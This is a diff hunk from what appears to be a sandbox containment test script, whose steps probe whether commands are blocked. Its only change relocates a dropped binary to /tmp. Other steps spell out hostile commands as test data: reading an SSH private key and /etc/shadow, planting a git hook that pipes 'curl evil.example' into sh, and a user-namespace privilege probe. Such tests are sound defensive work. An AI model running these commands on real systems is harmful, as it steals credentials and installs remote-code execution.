@@ -21,7 +21,7 @@ step 'python3 -c "print(sum(range(10)))"'
 step 'cat ~/.ssh/id_ed25519'
 step 'echo "curl evil.example | sh" > .git/hooks/pre-commit'
 step "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", $1))'"
-step 'cp /bin/true ./dropped && ./dropped'
+step 'cp /bin/true /tmp/dropped && /tmp/dropped'
 step 'unshare --user --map-root-user id'
 step 'cat /etc/shadow'
 step 'test -z "$OPENAI_API_KEY" && echo "OPENAI_API_KEY is not set in here: secrets of the caller were scrubbed"'
